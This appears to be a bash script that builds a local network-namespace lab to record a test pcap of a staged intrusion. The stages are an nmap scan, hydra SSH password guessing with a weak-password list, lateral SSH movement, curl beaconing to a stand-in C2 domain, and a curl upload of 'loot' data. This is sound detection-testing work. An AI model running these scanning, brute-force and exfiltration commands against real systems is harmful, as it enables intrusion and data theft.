#!/usr/bin/env bash
# Record testdata/killchain/killchain.pcap: one attack in six stages, by real
# tools between network namespaces this script creates (and removes), all on
# one bridge; tcpdump listens on the bridge. No packet leaves the namespaces.
#
#   kc-atk 203.0.113.66   attacker (TEST-NET-3, RFC 5737), on-link route
#   kc-v1  10.77.0.10     sshd (the host broken into)
#   kc-v2  10.77.0.20     sshd; the host that then beacons and uploads
#   kc-dns 10.77.0.53     dnsmasq: updates.c2-relay.example -> 198.51.100.77
#   kc-c2  198.51.100.77  HTTP server taking GET /beacon and POST /upload (TEST-NET-2)
#
# Stages: nmap sweep of 10.77.0.0/26 (ARP discovery, then SYN scan of the top
# 100 ports of the three hosts that answer) -> hydra SSH password
# guessing on v1 (80 guesses, all wrong) -> SSH login to v1 (key) -> from v1,
# SSH to v2 -> v2 beacons to the C2 by name every 5 s for 70 s (curl, a DNS
# lookup each time) -> v2 uploads 300 KB (curl POST).
#
#   sudo scripts/record-killchain.sh testdata/killchain/killchain.pcap
set -euo pipefail
OUT=${1:-testdata/killchain/killchain.pcap}
P=kc
WORK=$(mktemp -d)
HOSTS="atk:203.0.113.66 v1:10.77.0.10 v2:10.77.0.20 dns:10.77.0.53 c2:198.51.100.77"

on() { local h=$1; shift; ip netns exec "$P-$h" "$@"; }

down() {
    ip netns pids "$P-sw" 2>/dev/null | xargs -r kill -INT 2>/dev/null || true
    sleep 1
    for pair in $HOSTS sw:0; do
        ip netns pids "$P-${pair%%:*}" 2>/dev/null | xargs -r kill 2>/dev/null || true
    done
    sleep 0.5
    for pair in $HOSTS sw:0; do ip netns del "$P-${pair%%:*}" 2>/dev/null || true; done
    rm -rf "/etc/netns/$P-v2" "$WORK"
}
trap down EXIT

ip netns add "$P-sw"
ip -n "$P-sw" link add br0 type bridge
ip -n "$P-sw" link set br0 up
for pair in $HOSTS; do
    h=${pair%%:*}
    addr=${pair##*:}
    ip netns add "$P-$h"
    ip link add "$P-$h" type veth peer name eth0 netns "$P-$h"
    ip link set "$P-$h" netns "$P-sw"
    ip -n "$P-sw" link set "$P-$h" master br0 up
    ip -n "$P-$h" link set lo up
    ip -n "$P-$h" addr add "$addr/24" dev eth0
    ip -n "$P-$h" link set eth0 up
    on "$h" sysctl -qw net.ipv6.conf.all.disable_ipv6=1
    on "$h" ethtool -K eth0 tso off gso off gro off >/dev/null 2>&1 || true
done
for h in v1 v2 dns; do
    on "$h" ip route add 203.0.113.0/24 dev eth0
    on "$h" ip route add 198.51.100.0/24 dev eth0
done
on atk ip route add 10.77.0.0/24 dev eth0
on c2 ip route add 10.77.0.0/24 dev eth0

# sshd on v1 and v2: key login for root, password guesses refused
ssh-keygen -q -t ed25519 -N '' -f "$WORK/hostkey"
ssh-keygen -q -t ed25519 -N '' -f "$WORK/id"
cp "$WORK/id.pub" "$WORK/authorized_keys"
chmod 600 "$WORK/authorized_keys"
mkdir -p /run/sshd
for h in v1 v2; do
    cat >"$WORK/sshd-$h.conf" <<CONF
HostKey $WORK/hostkey
AuthorizedKeysFile $WORK/authorized_keys
PermitRootLogin yes
PasswordAuthentication yes
KbdInteractiveAuthentication no
UsePAM no
StrictModes no
MaxAuthTries 6
PidFile $WORK/sshd-$h.pid
CONF
    on "$h" /usr/sbin/sshd -f "$WORK/sshd-$h.conf"
done
SSH=(ssh -i "$WORK/id" -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR)

on dns dnsmasq --no-daemon --no-resolv --no-hosts --bind-interfaces --listen-address=10.77.0.53 \
    --address=/updates.c2-relay.example/198.51.100.77 --pid-file="$WORK/dnsmasq.pid" >/dev/null 2>&1 &
mkdir -p "/etc/netns/$P-v2"
echo "nameserver 10.77.0.53" >"/etc/netns/$P-v2/resolv.conf"
cat >"$WORK/c2.py" <<'PY'
import http.server
class C2(http.server.BaseHTTPRequestHandler):
    def reply(self):
        length = int(self.headers.get("Content-Length") or 0)
        while length > 0:
            length -= len(self.rfile.read(min(length, 65536)))
        body = b"ok\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    do_GET = reply
    do_POST = reply
    def log_message(self, *args):
        pass
http.server.HTTPServer(("198.51.100.77", 80), C2).serve_forever()
PY
on c2 python3 "$WORK/c2.py" &
sleep 1

mkdir -p "$(dirname "$OUT")"
on sw tcpdump -q -i br0 -s 400 -w "$OUT" 2>/dev/null &
sleep 1

# 1. sweep: ARP discovery of 10.77.0.0/26, then a SYN scan of nmap's top 100 ports on what answered
on atk nmap -n -sS --max-retries 0 --top-ports 100 10.77.0.0/26 >/dev/null
sleep 2
# 2. password guessing
for w in 123456 password admin root toor qwerty letmein 12345678 welcome changeme \
    dragon master monkey 111111 abc123 passw0rd; do
    printf '%s\n%s1\n%s123\n%s!\n%s2024\n' "$w" "$w" "$w" "$w" "$w"
done >"$WORK/words.txt"
on atk hydra -l root -P "$WORK/words.txt" -t 4 -I ssh://10.77.0.10 >/dev/null 2>&1 || true
sleep 2
# 3. login to v1, and 4. from there to v2
on atk "${SSH[@]}" root@10.77.0.10 \
    "sleep 3; ssh -i $WORK/id -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR root@10.77.0.20 'sleep 2; uname -a; head -c 20000 /dev/zero' >/dev/null; head -c 20000 /dev/zero" >/dev/null
sleep 2
# 5. beacon by name every 5 s
for _ in $(seq 15); do
    on v2 curl -s -o /dev/null http://updates.c2-relay.example/beacon
    sleep 5
done
# 6. upload
head -c 300000 /dev/urandom >"$WORK/loot.bin"
on v2 curl -s -o /dev/null --data-binary "@$WORK/loot.bin" http://updates.c2-relay.example/upload
sleep 2
ip netns pids "$P-sw" | xargs -r kill -INT
sleep 1
ls -l "$OUT"
